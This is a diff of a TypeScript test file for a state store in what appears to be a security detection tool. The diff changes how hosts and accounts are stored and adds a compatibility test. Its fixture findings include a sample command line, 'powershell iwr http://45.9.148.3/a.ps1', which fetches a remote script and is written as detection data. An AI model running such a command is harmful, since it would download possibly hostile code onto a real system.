@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startAzurite, type AzuriteTables } from '../../local/azurite/startAzurite.js';
 import { RunInProgressError } from '../../src/errors.js';
+import { entitiesFromText } from '../../src/entities/entityLists.js';
 import type { Finding } from '../../src/findings/finding.js';
 import { createStateTableClient } from '../../src/state/createStateTableClient.js';
 import { TableStateStore } from '../../src/state/TableStateStore.js';
@@ -16,8 +17,7 @@ function store(): TableStateStore {
 const finding: Finding = {
   ip: '45.9.148.3',
   version: 4,
-  hosts: ['ws1.contoso.com'],
-  accounts: ['CONTOSO\\alice'],
+  entities: entitiesFromText({ hosts: ['ws1.contoso.com'], accounts: ['CONTOSO\\alice'] }),
   processes: ['powershell.exe'],
   commandLines: ['powershell iwr http://45.9.148.3/a.ps1'],
   commandLinesOmitted: 0,
@@ -47,8 +47,7 @@ describe('TableStateStore', () => {
     const base = {
       incidentId: 'a3c1e1d0-0000-5000-8000-000000000001',
       generation: 0,
-      hosts: ['h1'],
-      accounts: ['a1'],
+      entities: entitiesFromText({ hosts: ['h1'], accounts: ['a1'] }),
       commandLines: ['x'],
       firstReported: new Date('2026-11-01T00:00:00Z'),
       lastReported: new Date('2026-11-01T00:00:00Z'),
@@ -58,8 +57,42 @@ describe('TableStateStore', () => {
     const seen = await s.getSeen(['45.9.148.3', '2a00:1450:4001:82a::200e', '8.8.8.8']);
     expect([...seen.keys()].sort()).toEqual(['2a00:1450:4001:82a::200e', '45.9.148.3']);
     expect(seen.get('2a00:1450:4001:82a::200e')?.generation).toBe(2);
-    expect(seen.get('45.9.148.3')?.hosts).toEqual(['h1']);
+    expect(seen.get('45.9.148.3')?.entities).toEqual(entitiesFromText({ hosts: ['h1'], accounts: ['a1'] }));
     expect(seen.get('45.9.148.3')?.lastSeen.toISOString()).toBe('2026-11-01T00:00:00.000Z');
+  });
+
+  it('stores seen and pending entities as the display texts earlier versions wrote, and reads records they wrote', async () => {
+    const client = createStateTableClient({ connectionString: azurite.connectionString, tableName: 'stateShape' });
+    const s = new TableStateStore(client);
+    const times = { firstReported: new Date('2026-11-01T00:00:00Z'), lastReported: new Date('2026-11-01T00:00:00Z'), lastSeen: new Date('2026-11-01T00:00:00Z') };
+    await s.putSeen([{ ip: '45.9.148.3', incidentId: 'i1', generation: 1, entities: finding.entities, commandLines: ['x'], ...times }]);
+    await s.putPending([finding]);
+    const seenEntity = await client.getEntity<Record<string, unknown>>('seen', '45.9.148.3');
+    expect(JSON.parse(String(seenEntity['data0']))).toEqual({ hosts: ['ws1.contoso.com'], accounts: ['CONTOSO\\alice'], commandLines: ['x'] });
+    const pendingEntity = await client.getEntity<Record<string, unknown>>('pending', '45.9.148.3');
+    expect(JSON.parse(String(pendingEntity['data0']))).toEqual({
+      ip: '45.9.148.3',
+      version: 4,
+      hosts: ['ws1.contoso.com'],
+      accounts: ['CONTOSO\\alice'],
+      processes: ['powershell.exe'],
+      commandLines: ['powershell iwr http://45.9.148.3/a.ps1'],
+      commandLinesOmitted: 0,
+      encodings: ['dotted'],
+      firstSeen: '2026-11-01T10:00:00.000Z',
+      lastSeen: '2026-11-01T11:00:00.000Z',
+      eventCount: 3,
+    });
+
+    // Written by an earlier version: lists of names.
+    const older = JSON.stringify({ hosts: ['PC1', 'web02.contoso.com'], accounts: ['bob@contoso.com'], commandLines: ['y'] });
+    await client.upsertEntity({ partitionKey: 'seen', rowKey: '8.8.8.8', incidentId: 'i2', generation: 1, ...times, chunks: 1, data0: older }, 'Replace');
+    const seen = await s.getSeen(['8.8.8.8']);
+    expect(seen.get('8.8.8.8')).toMatchObject({
+      entities: entitiesFromText({ hosts: ['PC1', 'web02.contoso.com'], accounts: ['bob@contoso.com'] }),
+      commandLines: ['y'],
+    });
+    expect(await s.getPending()).toEqual([finding]);
   });
 
   it('splits command lines longer than one table property across chunks', async () => {
